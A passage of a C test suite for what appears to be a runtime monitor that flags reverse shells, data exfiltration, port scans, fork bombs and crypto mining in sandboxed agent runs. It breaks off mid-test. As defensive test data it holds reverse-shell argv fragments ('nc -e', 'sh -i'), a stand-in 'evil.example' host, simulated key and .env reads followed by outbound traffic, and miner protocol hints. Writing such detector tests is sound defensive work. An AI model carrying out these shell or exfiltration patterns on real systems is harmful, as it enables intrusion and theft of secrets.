/* The detectors over recorded streams (tests/data/watch/DETECTOR.attack-*.jsonl, DETECTOR.honest-*.jsonl; compose.py
 * says how they came to be), and what has to hold of any stream. */
#include "test.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/stat.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "base/encoded.h"
#include "filter/syscalls.h"
#include "tool/load.h"
#include "watch/habits.h"
#include "watch/record.h"
#include "watch/watch.h"

#ifndef SOURCE_DIR
#define SOURCE_DIR "."
#endif
#define DATA SOURCE_DIR "/tests/data/watch"

/* ---- streams ---- */

struct stream {
    char name[128]; /* of the file */
    enum detector detector;
    bool is_attack;
    struct record *records;
    size_t count;
};

static void stream_load(struct stream *s)
{
    char path[256], line[RECORD_LINE_MAX];
    struct error err = { 0 };
    (void)snprintf(path, sizeof path, DATA "/%s", s->name);
    FILE *f = fopen(path, "re");
    CHECK(f);
    s->records = calloc(1000, sizeof *s->records);
    for (s->count = 0; fgets(line, sizeof line, f); s->count++) {
        CHECK(s->count < 1000);
        if (record_read(line, strcspn(line, "\n"), &s->records[s->count], &err) < 0) {
            if (FILTER_IS_AARCH64 && strstr(err.text, "this machine has no such system call")) {
                err = (struct error){ 0 }; /* recorded on x86-64: creat, vfork and their like */
                s->count--;
                continue;
            }
            (void)fprintf(stderr, "# %s:%zu: %s\n", s->name, s->count + 1, err.text);
        }
        CHECK_EQ(err.code, 0);
    }
    (void)fclose(f);
    CHECK(s->count > 0);
}

static bool stream_begin(struct stream *s, const char *name)
{
    const char *dot = strchr(name, '.'), *end = strstr(name, ".jsonl");
    if (!dot || !end || end[6])
        return false;
    *s = (struct stream){ .is_attack = str_starts(dot, ".attack-") };
    CHECK(s->is_attack || str_starts(dot, ".honest-"));
    (void)snprintf(s->name, sizeof s->name, "%s", name);
    for (s->detector = 0; s->detector < DETECTOR_COUNT; s->detector++)
        if (strlen(detector_names[s->detector]) == (size_t)(dot - name) &&
            strncmp(name, detector_names[s->detector], (size_t)(dot - name)) == 0)
            break;
    CHECK(s->detector < DETECTOR_COUNT);
    return true;
}

static struct stream streams[200];
static size_t stream_count;

static void streams_load(void)
{
    DIR *d = stream_count ? NULL : opendir(DATA);
    for (struct dirent *e; d && (e = readdir(d));)
        if (stream_begin(&streams[stream_count], e->d_name)) {
            stream_load(&streams[stream_count++]);
            CHECK(stream_count < ARRAY_LEN(streams));
        }
    if (d)
        (void)closedir(d);
    CHECK(stream_count > 40);
}

/* The level that the streams were recorded at, where everything is looked for. */
static const struct profile *medium(void)
{
    static struct loaded l;
    static bool is_loaded;
    if (!is_loaded) {
        loaded_init(&l);
        CHECK_EQ(load_profile(&l, SOURCE_DIR, "medium", NULL, NULL), 0);
        is_loaded = true;
    }
    return &l.profile;
}

struct found {
    struct watch_finding finding[DETECTOR_COUNT];
    size_t count;
};

static void feed(struct watch *w, const struct watch_event *e, struct found *f)
{
    struct watch_finding now[DETECTOR_COUNT];
    size_t n = watch_feed(w, e, now);
    CHECK(f->count + n <= DETECTOR_COUNT);
    for (size_t i = 0; i < n; i++) {
        CHECK(now[i].evidence[0] && strlen(now[i].evidence) < WATCH_EVIDENCE_MAX - 1);
        for (const char *p = now[i].evidence; *p; p++)
            CHECK(*p >= 0x20 && *p < 0x7f); /* nothing that moves a terminal's cursor */
        CHECK_EQ(now[i].at_us, e->at_us);
        f->finding[f->count++] = now[i];
    }
}

static bool has_fired(const struct found *f, enum detector d)
{
    for (size_t i = 0; i < f->count; i++)
        if (f->finding[i].detector == d)
            return true;
    return false;
}

static struct found run(const struct profile *p, const struct watch_event *const *events, size_t count)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(p);
    for (size_t i = 0; i < count; i++)
        feed(w, events[i], &f);
    (void)watch_free(w);
    return f;
}

static struct found run_stream(const struct profile *p, const struct stream *s)
{
    const struct watch_event *events[1000];
    for (size_t i = 0; i < s->count; i++)
        events[i] = &s->records[i].event;
    return run(p, events, s->count);
}

static uint64_t random_state = 88172645463325252;
static uint64_t any(uint64_t below)
{
    random_state ^= random_state << 13; /* xorshift64: Marsaglia 2003 */
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return random_state % below;
}

TEST(each_detector_catches_its_attacks_and_leaves_look_alikes_alone)
{
    size_t attacks[DETECTOR_COUNT] = { 0 }, honest[DETECTOR_COUNT] = { 0 };
    streams_load();
    for (size_t i = 0; i < stream_count; i++) {
        const struct stream *s = &streams[i];
        struct found f = run_stream(medium(), s);
        (s->is_attack ? attacks : honest)[s->detector]++;
        if (s->is_attack != has_fired(&f, s->detector) || (!s->is_attack && f.count))
            (void)fprintf(stderr, "# %s: %s\n", s->name, f.count ? f.finding[0].evidence : "nothing");
        CHECK_EQ(has_fired(&f, s->detector), s->is_attack);
        CHECK(s->is_attack || f.count == 0);
    }
    for (enum detector d = 0; d < DETECTOR_COUNT; d++)
        CHECK(attacks[d] >= 1 && honest[d] >= 1);
}

TEST(a_stream_without_events_or_with_its_end_only_is_harmless)
{
    struct watch_event end = { .kind = WATCH_END, .at_us = 5 };
    CHECK_EQ(run(medium(), NULL, 0).count, 0);
    CHECK_EQ(run(medium(), (const struct watch_event *[]){ &end }, 1).count, 0);
}

/* Order matters for shells alone: a script for bash is something else before a connection than beside it. */
TEST(harmless_events_in_any_order_are_harmless)
{
    streams_load();
    for (size_t i = 0; i < stream_count; i++) {
        const struct stream *s = &streams[i];
        if (s->is_attack || s->detector == DETECT_REVERSE_SHELLS)
            continue;
        for (int round = 0; round < 20; round++) {
            static struct watch_event events[1000];
            const struct watch_event *order[1000];
            for (size_t k = 0; k < s->count; k++)
                events[k] = s->records[k].event;
            for (size_t k = s->count - 1; k > 0; k--) {
                size_t j = (size_t)any(k + 1);
                struct watch_event t = events[k];
                events[k] = events[j], events[j] = t;
            }
            for (size_t k = 0; k < s->count; k++) { /* at the times that there were */
                events[k].at_us = s->records[k].event.at_us;
                order[k] = &events[k];
            }
            struct found f = run(medium(), order, s->count);
            if (f.count)
                (void)fprintf(stderr, "# %s: %s: %s\n", s->name, detector_names[f.finding[0].detector],
                              f.finding[0].evidence);
            CHECK_EQ(f.count, 0);
        }
    }
}

/* In another order it would be a file that goes out, so no stream of the harmless ones. */
TEST(a_connection_that_reported_before_settings_were_read_may_go_on)
{
    struct watch_event made = { .kind = WATCH_CONNECT, .at_us = 1, .connection = 1, .family = AF_INET, .port = 9000 };
    made.name = "report.example";
    made.text = "public address";
    CHECK_EQ(inet_pton(AF_INET, "203.0.113.50", made.address), 1);
    struct watch_event before = made, end = made;
    before.kind = WATCH_TRAFFIC;
    before.bytes_out = 3000;
    const struct watch_event read = {
        .kind = WATCH_FILE, .at_us = 3, .text = "/data/.env", .flags = WATCH_SETTINGS, .args = { 4711, 300 }
    };
    const struct watch_event *const order[] = { &made, &before, &read, &end };
    end.kind = WATCH_CLOSED;
    end.at_us = 4;
    end.bytes_out = 3400;
    CHECK_EQ(run(medium(), order, ARRAY_LEN(order)).count, 0);
    end.bytes_out = 6500; /* more since than before */
    CHECK_EQ(run(medium(), order, ARRAY_LEN(order)).count, 1);
}

/* What another part of the same run does: other processes, connections and pipes. CPU, memory and counters are of the
 * run as a whole. */
static size_t merge(const struct stream *attack, const struct stream *other, struct watch_event *copies,
                    const struct watch_event **ret)
{
    size_t n = 0, i = 0, k = 0;
    while (i < attack->count || k < other->count) {
        const struct watch_event *a = i < attack->count ? &attack->records[i].event : NULL,
                                 *b = k < other->count ? &other->records[k].event : NULL;
        if (a && (!b || a->at_us <= b->at_us)) {
            ret[n++] = a;
            i++;
            continue;
        }
        k++;
        if (b->kind == WATCH_SAMPLE || b->kind == WATCH_LIMIT || b->kind == WATCH_END || b->kind == WATCH_BEGUN ||
            b->kind == WATCH_STARTING || (k == 1 && b->kind == WATCH_EXEC))
            continue;
        copies[k] = *b;
        copies[k].pid += 100000;
        copies[k].connection += b->connection ? 100000 : 0;
        copies[k].stdio_id0 += 100000, copies[k].stdio_id1 += 100000, copies[k].stdio_id2 += 100000;
        ret[n++] = &copies[k];
    }
    return n;
}

TEST(honest_work_beside_an_attack_does_not_hide_it)
{
    static struct watch_event copies[1000];
    static const struct watch_event *both[2000];
    streams_load();
    for (size_t i = 0; i < stream_count; i++)
        for (size_t k = 0; k < stream_count; k++) {
            if (!streams[i].is_attack || streams[k].is_attack)
                continue;
            struct found f = run(medium(), both, merge(&streams[i], &streams[k], copies, both));
            const bool is_settled = streams[i].detector == DETECT_SUSPICION && has_fired(&f, DETECT_DATA_EXFILTRATION);
            if (!has_fired(&f, streams[i].detector) && !is_settled)
                (void)fprintf(stderr, "# %s beside %s\n", streams[i].name, streams[k].name);
            CHECK(has_fired(&f, streams[i].detector) || is_settled);
        }
}

TEST(events_of_the_attack_twice_do_not_hide_it)
{
    streams_load();
    for (size_t i = 0; i < stream_count; i++) {
        const struct watch_event *twice[2000];
        for (size_t k = 0; k < 2 * streams[i].count; k++)
            twice[k] = &streams[i].records[k / 2].event;
        struct found f = run(medium(), twice, 2 * streams[i].count);
        if (streams[i].is_attack && !has_fired(&f, streams[i].detector))
            (void)fprintf(stderr, "# %s\n", streams[i].name);
        CHECK(!streams[i].is_attack || has_fired(&f, streams[i].detector));
    }
}

static bool is_equal(const struct found *a, const struct found *b)
{
    bool same = a->count == b->count;
    for (size_t i = 0; same && i < a->count; i++)
        same = a->finding[i].detector == b->finding[i].detector && a->finding[i].mode == b->finding[i].mode &&
               a->finding[i].at_us == b->finding[i].at_us && str_eq(a->finding[i].evidence, b->finding[i].evidence);
    return same;
}

TEST(live_and_replayed_are_the_same)
{
    streams_load();
    for (size_t i = 0; i < stream_count; i++) {
        struct found expected = run_stream(medium(), &streams[i]), packed = { .count = 0 }, recorded = { .count = 0 };
        struct watch *by_message = watch_new(medium()), *by_line = watch_new(medium());
        for (size_t k = 0; k < streams[i].count; k++) {
            struct buf message, line;
            struct watch_event e;
            struct record r;
            buf_init(&message, WATCH_MESSAGE_MAX);
            buf_init(&line, RECORD_LINE_MAX);
            watch_event_pack(&message, &streams[i].records[k].event);
            CHECK_EQ(watch_event_unpack(message.data, message.size, &e), 0);
            feed(by_message, &e, &packed);
            CHECK_EQ(record_write(&line, &e), 0);
            CHECK_EQ(record_read(line.data, line.size - 1, &r, NULL), 0);
            feed(by_line, &r.event, &recorded);
            buf_done(&message);
            buf_done(&line);
        }
        (void)watch_free(by_message);
        (void)watch_free(by_line);
        CHECK(is_equal(&expected, &packed) && is_equal(&expected, &recorded));
    }
}

/* ---- any stream ---- */

static const char *any_text(char out[static 64])
{
    static const char *const known[] = { "/bin/sh",          "pids",     "memory",   "/proc/sys/kernel/core_pattern",
                                         "a.b.evil.example", "sh\x1f-i", "nc\x1f-e", "" };
    if (any(2))
        return any(8) == 0 ? NULL : known[any(ARRAY_LEN(known))];
    size_t n = (size_t)any(63);
    for (size_t i = 0; i < n; i++)
        out[i] = (char)(1 + any(255));
    out[n] = '\0';
    return out;
}

static void make_any(struct watch_event *e, uint64_t at_us, char texts[3][64])
{
    *e = (struct watch_event){ .at_us = any(50) ? at_us : any(UINT64_MAX),
                               .kind = (uint8_t)(1 + any(WATCH_KIND_COUNT - 1)),
                               .verdict = (uint8_t)any(2),
                               .pid = (uint32_t)any(300),
                               .nr = any(4) ? (uint32_t)any(480) : (uint32_t)any(UINT32_MAX),
                               .error = (uint32_t)any(50),
                               .args = { any(UINT64_MAX), any(500), any(3) },
                               .family = any(2) ? AF_INET : AF_INET6,
                               .protocol = any(2) ? IPPROTO_TCP : IPPROTO_UDP,
                               .port = (uint16_t)any(65536),
                               .address = { any(1 << 20), any(3) },
                               .connection = any(2000),
                               .bytes_out = any(9) ? any(5000) : any(UINT64_MAX),
                               .bytes_in = any(5000),
                               .cpu_us = any(5) ? at_us : any(UINT64_MAX),
                               .memory_bytes = any(UINT64_MAX),
                               .pids = (uint32_t)any(60),
                               .flags = (uint32_t)any(64),
                               .stdio0 = (uint8_t)any(7),
                               .stdio1 = (uint8_t)any(7),
                               .stdio2 = (uint8_t)any(7),
                               .stdio_id0 = any(20),
                               .stdio_id1 = any(20),
                               .stdio_id2 = any(20) };
    e->text = any_text(texts[0]);
    e->name = any_text(texts[1]);
    e->argv = any_text(texts[2]);
}

/* Thresholds as high as they go, so that the states live long. What they hold is one allocation, made at the beginning
 * (watch.c asserts its size). */
TEST(a_million_random_events_are_taken)
{
    struct profile p = *medium();
    p.detectors.port_scanning.targets = WATCH_MAX_TARGETS;
    p.detectors.data_exfiltration.names = WATCH_MAX_NAMES;
    p.detectors.data_exfiltration.bytes = p.detectors.data_exfiltration.destination_bytes = UINT64_MAX;
    p.detectors.suspicious_syscalls.refused = p.detectors.fork_bomb_detection.hits = 100000;
    struct watch *w = watch_new(&p);
    struct found f = { .count = 0 };
    for (uint64_t i = 0; i < 1000000; i++) {
        struct watch_event e;
        char texts[3][64];
        if (i % 10000 == 0) { /* those that fired are asleep: begin again */
            (void)watch_free(w);
            w = watch_new(&p);
            f.count = 0;
        }
        make_any(&e, i * 1000, texts);
        feed(w, &e, &f);
    }
    (void)watch_free(w);
}

TEST(a_detector_fires_once)
{
    struct watch_event e = { .kind = WATCH_SOCKET, .args = { AF_INET, SOCK_STREAM, 0 }, .family = AF_INET };
    const struct watch_event *many[] = { &e, &e, &e };
    CHECK_EQ(run(medium(), many, 3).count, 1);
}

/* A key was opened; before it, where it matters, something else had happened. */
static size_t suspicions_after(const struct watch_event *const *first, size_t count)
{
    const struct watch_event *events[8],
        key = { .kind = WATCH_FILE,
                .at_us = 50,
                .flags = WATCH_SETTINGS,
                .args = { 9, 1300, 0 },
                .text = "/data/keys/id_ed25519" },
        connect = { .kind = WATCH_CONNECT,
                    .at_us = 60,
                    .family = AF_INET,
                    .address = { 7 },
                    .port = 80,
                    .connection = 9,
                    .name = "llm.example",
                    .text = "public address" },
        closed = { .kind = WATCH_CLOSED,
                   .at_us = 70,
                   .family = AF_INET,
                   .address = { 7 },
                   .port = 80,
                   .connection = 9,
                   .name = "llm.example",
                   .bytes_out = 9000,
                   .bytes_in = 800 };
    for (size_t i = 0; i < count; i++)
        events[i] = first[i];
    events[count] = &key, events[count + 1] = &connect, events[count + 2] = &closed;
    const struct found f = run(medium(), events, count + 3);
    for (size_t i = 0; i < f.count; i++)
        CHECK_EQ(f.finding[i].mode, DETECTOR_REPORT);
    return has_fired(&f, DETECT_SUSPICION);
}

/* An agent's model was asked before the agent's search came to a key, from other addresses even; ssh reads keys. */
TEST(a_key_that_is_read_beside_a_known_peer_or_ssh_is_no_suspicion)
{
    const struct watch_event ssh = { .kind = WATCH_EXEC, .at_us = 1, .text = "/usr/bin/ssh", .argv = "ssh" },
                             asked = { .kind = WATCH_CONNECT,
                                       .at_us = 2,
                                       .family = AF_INET,
                                       .address = { 6 },
                                       .port = 80,
                                       .connection = 1,
                                       .name = "llm.example",
                                       .text = "public address" };
    struct watch_event answered = asked;
    answered.kind = WATCH_TRAFFIC;
    answered.bytes_out = 3000;
    answered.bytes_in = 700;
    struct watch_event thanked = answered;
    thanked.bytes_in = 140;
    CHECK_EQ(suspicions_after(NULL, 0), 1);
    CHECK_EQ(suspicions_after((const struct watch_event *[]){ &ssh }, 1), 0);
    CHECK_EQ(suspicions_after((const struct watch_event *[]){ &asked, &answered }, 2), 0);
    CHECK_EQ(suspicions_after((const struct watch_event *[]){ &asked, &thanked }, 2), 1);
}

/* ---- modes ---- */

TEST(modes_follow_from_the_profile)
{
    static const enum detector_mode expected[RISK_COUNT][DETECTOR_COUNT] = {
        { DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_OFF, DETECTOR_REPORT,
          DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT },
        { DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT,
          DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT, DETECTOR_REPORT },
        { DETECTOR_KILL, DETECTOR_KILL, DETECTOR_KILL, DETECTOR_KILL, DETECTOR_KILL, DETECTOR_KILL, DETECTOR_KILL,
          DETECTOR_KILL, DETECTOR_KILL, DETECTOR_KILL, DETECTOR_REPORT },
    };
    for (int level = 0; level < RISK_COUNT; level++) {
        struct loaded l;
        loaded_init(&l);
        CHECK_EQ(load_profile(&l, SOURCE_DIR, risk_level_names[level], NULL, NULL), 0);
        for (enum detector d = 0; d < DETECTOR_COUNT; d++)
            CHECK_EQ(detector_mode_of(&l.profile, d), expected[level][d]);
        loaded_done(&l);
    }
}

TEST(what_is_off_stays_silent_and_what_kills_comes_first)
{
    struct profile p;
    struct watch_event e = { .kind = WATCH_CALL, .nr = NR_bpf, .error = EPERM },
                       s = { .kind = WATCH_SOCKET, .args = { AF_INET, SOCK_STREAM, 0 } };
    const struct watch_event *both[] = { &s, &e };
    profile_defaults(&p);
    struct found f = run(&p, both, 2);
    CHECK(f.count == 2 && f.finding[0].mode == DETECTOR_KILL);
    p.kill_switches = 0;
    CHECK_EQ(run(&p, both, 2).finding[0].mode, DETECTOR_REPORT);
    p.monitoring.syscall_monitoring = p.monitoring.network_attempt_detection = false;
    CHECK_EQ(run(&p, both, 2).count, 1); /* a privilege probe, too */
    p.monitoring.privilege_escalation_detection = false;
    CHECK_EQ(run(&p, both, 2).count, 0);
    profile_done(&p);
}

/* ---- thresholds ---- */

static size_t connects(uint32_t count, uint32_t flags, uint64_t apart_us)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    for (uint32_t i = 0; i < count; i++) {
        struct watch_event e = { .kind = WATCH_CONNECT,
                                 .at_us = i * apart_us,
                                 .family = AF_INET,
                                 .protocol = IPPROTO_TCP,
                                 .port = (uint16_t)(i + 1),
                                 .flags = flags };
        feed(w, &e, &f);
    }
    (void)watch_free(w);
    return f.count;
}

TEST(a_scan_is_as_many_targets_as_the_profile_says_within_its_window)
{
    const uint32_t limit = medium()->detectors.port_scanning.targets;
    CHECK_EQ(connects(limit - 1, 0, 1000), 0);
    CHECK_EQ(connects(limit, 0, 1000), 1);
    CHECK_EQ(connects(4 * limit, 0, medium()->detectors.port_scanning.window * 1000 / (limit - 2)), 0); /* slower */
    CHECK_EQ(connects(4 * limit - 1, WATCH_INSIDE, 1000), 0);
    CHECK_EQ(connects(4 * limit, WATCH_INSIDE, 1000), 1);
}

static size_t bytes_out(uint64_t bytes, uint32_t connections)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    for (uint32_t i = 1; i <= connections; i++) { /* told twice, counted once */
        struct watch_event e = {
            .kind = WATCH_TRAFFIC,
            .family = AF_INET,
            .address = { i },
            .connection = i,
            .bytes_out = bytes / 2,
            .bytes_in = bytes / 2 /* who answers is no peer that only takes */
        };
        feed(w, &e, &f);
        e.bytes_out = bytes;
        feed(w, &e, &f);
        e.kind = WATCH_CLOSED;
        feed(w, &e, &f);
    }
    (void)watch_free(w);
    return f.count;
}

TEST(bytes_out_are_bounded_for_one_destination_and_for_all)
{
    const uint64_t one = medium()->detectors.data_exfiltration.destination_bytes,
                   all = medium()->detectors.data_exfiltration.bytes;
    CHECK_EQ(bytes_out(one - 1, 1), 0);
    CHECK_EQ(bytes_out(one, 1), 1);
    CHECK_EQ(bytes_out(all / 1000, 999), 0);
    CHECK_EQ(bytes_out(all / 1000 + 1, 1000), 1);
}

/* pids: in the sample before each refusal. */
static size_t hits(uint64_t count, uint64_t apart_us, uint32_t pids)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    for (uint64_t i = 1; i <= count; i++) {
        struct watch_event e = { .kind = WATCH_LIMIT, .at_us = i * apart_us, .text = "pids", .args = { i } },
                           before = { .kind = WATCH_SAMPLE, .at_us = i * apart_us, .pids = pids };
        feed(w, &before, &f);
        feed(w, &e, &f);
        feed(w, &e, &f); /* a sum, not a number of events */
    }
    (void)watch_free(w);
    return f.count;
}

TEST(a_fork_bomb_is_as_many_refusals_as_the_profile_says_within_its_window)
{
    const uint64_t limit = medium()->detectors.fork_bomb_detection.hits,
                   window_us = medium()->detectors.fork_bomb_detection.window * 1000;
    const uint32_t most = medium()->resources.pids;
    CHECK_EQ(hits(limit - 1, 100, most), 0);
    CHECK_EQ(hits(limit, 100, most), 1);
    CHECK_EQ(hits(limit, 100, 2), 1);
    CHECK_EQ(hits(limit - 1, window_us, most), 0); /* a slow one: all its processes stay */
    CHECK_EQ(hits(limit, window_us, most), 1);
    CHECK_EQ(hits(4 * limit, window_us / limit * 3 / 2, most / 2), 0); /* they come and go */
}

/* One by one, the sum so far in each sample. */
static size_t forks(uint64_t per_second, uint64_t seconds)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    for (uint64_t i = 1; i <= seconds * 10; i++) {
        struct watch_event e = { .kind = WATCH_SAMPLE, .at_us = i * 100000, .args = { i * per_second / 10 } };
        feed(w, &e, &f);
    }
    (void)watch_free(w);
    return f.count;
}

TEST(a_comet_is_as_many_processes_a_second_as_the_profile_says)
{
    const uint64_t rate = medium()->detectors.fork_bomb_detection.rate,
                   window = medium()->detectors.fork_bomb_detection.window / 1000;
    CHECK_EQ(forks(rate + rate / 10, window + 1), 1);
    CHECK_EQ(forks(rate - rate / 5, 3 * window), 0);
}

/* hint: what points to mining beside the processor's work; NULL: nothing does. */
static size_t cpu_from(uint64_t begun_s, uint64_t permille, uint64_t seconds, const char *hint)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    struct watch_event words = { .kind = WATCH_WORDS, .text = hint };
    if (hint)
        feed(w, &words, &f);
    for (uint64_t i = 1; i <= seconds * 10; i++) {
        struct watch_event e = { .kind = WATCH_SAMPLE,
                                 .at_us = i * 100000,
                                 .cpu_us = i * 100 * permille * medium()->resources.cpu / 1000 };
        const struct watch_event begun = { .kind = WATCH_BEGUN, .at_us = i * 100000 };
        if (i == begun_s * 10)
            feed(w, &begun, &f);
        feed(w, &e, &f);
    }
    (void)watch_free(w);
    return f.count;
}

static size_t cpu_of(uint64_t permille, uint64_t seconds, const char *hint)
{
    return cpu_from(0, permille, seconds, hint);
}

static size_t cpu(uint64_t permille, uint64_t seconds)
{
    return cpu_of(permille, seconds, NULL);
}

TEST(cpu_is_measured_against_what_is_allowed)
{
    const uint64_t share = medium()->detectors.excessive_cpu_usage.share,
                   window = medium()->detectors.excessive_cpu_usage.window / 1000;
    CHECK_EQ(cpu(share + 5, window - 1), 0);
    CHECK_EQ(cpu(share + 5, window + 1), 1);
    CHECK_EQ(cpu(share - 5, 3 * window), 0);
    CHECK_EQ(cpu_from(window - 1, share + 5, 2 * window - 2, NULL), 0); /* an interpreter that starts slowly */
    CHECK_EQ(cpu_from(window - 1, share + 5, 2 * window + 1, NULL), 1);
}

/* All that is allowed is used, after before_s of CPU time of others in the same session. start_s: how long an
 * interpreter's start may take at that rate; begun_s: when its guard says that it is over, 0: never. */
static size_t cpu_of_a_start(uint64_t before_s, uint64_t start_s, uint64_t begun_s, uint64_t seconds)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    const uint64_t milli = medium()->resources.cpu;
    feed(w, &(struct watch_event){ .kind = WATCH_STARTING, .args = { start_s * 500 * milli } }, &f);
    for (uint64_t i = 1; i <= seconds * 10; i++) {
        const uint64_t at_us = i * 100000;
        if (i == 20) /* the machine is slow */
            feed(w, &(struct watch_event){ .kind = WATCH_STARTING, .at_us = at_us, .args = { start_s * 1000 * milli } },
                 &f);
        if (i == begun_s * 10)
            feed(w, &(struct watch_event){ .kind = WATCH_BEGUN, .at_us = at_us }, &f);
        feed(w,
             &(struct watch_event){ .kind = WATCH_SAMPLE, .at_us = at_us, .cpu_us = (before_s * 10 + i) * 100 * milli },
             &f);
    }
    (void)watch_free(w);
    return f.count;
}

TEST(the_start_of_an_interpreter_does_not_count_and_one_that_never_ends_does)
{
    const uint64_t window = medium()->detectors.excessive_cpu_usage.window / 1000, slow = 5 * window;
    for (uint64_t before = 0; before <= 1000; before += 1000) {
        CHECK_EQ(cpu_of_a_start(before, slow, slow - 1, slow + window - 2), 0); /* nor what is short after it */
        CHECK_EQ(cpu_of_a_start(before, slow, slow - 1, slow + window + 1), 1);
        CHECK_EQ(cpu_of_a_start(before, slow, 2, window), 0);
        CHECK_EQ(cpu_of_a_start(before, slow, 2, window + 3), 1); /* begun early: what was left is no place to hide */
        CHECK_EQ(cpu_of_a_start(before, slow, 0, slow + window - 1), 0);
        CHECK_EQ(cpu_of_a_start(before, slow, 0, slow + window + 1), 1); /* no guard speaks */
    }
    CHECK_EQ(cpu_of_a_start(0, 3, window, window - 1), 0);
    CHECK_EQ(cpu_of_a_start(0, 3, 2 * window, window + 4), 1); /* too late for the machine it is on */
}

TEST(mining_is_a_hint_and_as_much_cpu_as_the_profile_says)
{
    const uint64_t cpu_share = medium()->detectors.crypto_mining.cpu_share,
                   window = medium()->detectors.crypto_mining.window / 1000;
    CHECK(cpu_share + 5 < medium()->detectors.excessive_cpu_usage.share); /* which is silent below */
    CHECK_EQ(cpu_of(cpu_share + 5, window + 1, "mining.subscribe"), 1);
    CHECK_EQ(cpu_of(cpu_share + 5, 3 * window, NULL), 0);
    CHECK_EQ(cpu_of(cpu_share + 5, window - 1, "mining.subscribe"), 0);
    CHECK_EQ(cpu_of(cpu_share - 5, 3 * window, "mining.subscribe"), 0);
}

/* Whether a word of `length` characters is in the evidence as `shown` of them and `end`. */
static bool tells(size_t length, size_t shown, const char *end)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    char word[128] = { 0 }, wanted[256];
    memset(word, 'x', length);
    feed(w, &(struct watch_event){ .kind = WATCH_WORDS, .at_us = 5000, .text = word }, &f);
    for (uint64_t i = 1; i <= 1000 && !f.count; i++)
        feed(w,
             &(struct watch_event){
                 .kind = WATCH_SAMPLE, .at_us = i * 100000, .cpu_us = i * 100 * medium()->resources.cpu },
             &f);
    (void)watch_free(w);
    (void)snprintf(wanted, sizeof wanted, "in memory, %.*s%s at 0.005 s", (int)shown, word, end);
    return f.count && strstr(f.finding[0].evidence, wanted);
}

TEST(evidence_of_mining_has_a_host_s_name_in_full_or_says_that_it_is_cut)
{
    CHECK(tells(20, 20, "") && tells(46, 46, "") && tells(47, 43, "...") && tells(90, 43, "..."));
}

/* used and waited: permille of the allowed CPU. has_talk: beside a connection that lasts and was talked over. */
static size_t mine(uint64_t used, uint64_t waited, uint64_t seconds, bool has_words, bool has_talk)
{
    struct found f = { .count = 0 };
    struct watch *w = watch_new(medium());
    const uint64_t cpu = medium()->resources.cpu;
    if (has_talk)
        feed(w, &(struct watch_event){ .kind = WATCH_CONNECT, .connection = 1, .protocol = IPPROTO_TCP }, &f);
    if (has_words)
        feed(w, &(struct watch_event){ .kind = WATCH_WORDS, .text = "job of XMRig's protocol" }, &f);
    for (uint64_t i = 1; i <= seconds * 10; i++) {
        struct watch_event e = { .kind = WATCH_SAMPLE,
                                 .at_us = i * 100000,
                                 .cpu_us = i * 100 * used * cpu / 1000,
                                 .args = { 0, i * 100 * waited * cpu / 1000 } };
        feed(w, &e, &f);
        if (has_talk && i % 50 == 0)
            feed(w,
                 &(struct watch_event){
                     .kind = WATCH_TRAFFIC, .connection = 1, .at_us = i * 100000, .bytes_out = i, .bytes_in = i },
                 &f);
    }
    (void)watch_free(w);
    return f.count;
}

TEST(what_a_miner_waited_for_counts_and_what_an_idle_program_did_not_use_does_not)
{
    const uint64_t share = medium()->detectors.crypto_mining.cpu_share,
                   window = medium()->detectors.crypto_mining.window / 1000;
    CHECK_EQ(mine(share / 3, share, window + 1, true, false), 1);
    CHECK_EQ(mine(share / 3, share / 3, 3 * window, true, false), 0);
    CHECK_EQ(mine(share / 3, share, 3 * window, false, true), 0); /* nothing says what for */
}

TEST(a_miner_that_pauses_is_known_by_its_protocol_and_a_connection_that_lasts)
{
    const uint64_t share = medium()->detectors.crypto_mining.cpu_share,
                   window = medium()->detectors.crypto_mining.window / 1000;
    CHECK_EQ(mine(share / 4, 0, 2 * window, true, true), 1);
    CHECK_EQ(mine(share / 4, 0, 2 * window, true, false), 0);
    CHECK_EQ(mine(share / 4, 0, 2 * window, false, true), 0);
    CHECK_EQ(mine(share / 10, 0, 2 * window, true, true), 0); /* reads about mining */
}

TEST(what_a_compiler_of_this_run_made_is_no_miner_for_being_in_a_writable_place)
{
    for (int built = 0; built < 3; built++) { /* not at all, this program, another one */
        struct found f = { .count = 0 };
        struct watch *w = watch_new(medium());
        const uint64_t cpu = medium()->resources.cpu;
        feed(w, &(struct watch_event){ .kind = WATCH_EXEC, .text = "/bin/bash", .argv = "bash" }, &f);
        const char *argv = built == 1 ? "gcc\x1f-O2\x1f-o\x1f./simulate\x1f"
                                        "a.c"
                                      : "gcc\x1f-o\x1fother\x1f"
                                        "a.c";
        if (built)
            feed(w, &(struct watch_event){ .kind = WATCH_EXEC, .text = "/usr/bin/gcc-12", .argv = argv }, &f);
        feed(w,
             &(struct watch_event){
                 .kind = WATCH_EXEC, .text = "/workspace/simulate", .argv = "simulate", .flags = WATCH_WRITABLE_PLACE },
             &f);
        feed(w, &(struct watch_event){ .kind = WATCH_CONNECT, .connection = 1, .protocol = IPPROTO_TCP }, &f);
        for (uint64_t i = 1; i <= 1200; i++) {
            struct watch_event e = { .kind = WATCH_SAMPLE, .at_us = i * 100000, .cpu_us = i * 90 * cpu };
            struct watch_event t = { .kind = WATCH_TRAFFIC, .connection = 1, .at_us = i * 100000 };
            t.bytes_out = t.bytes_in = i;
            feed(w, &e, &f);
            feed(w, &t, &f);
        }
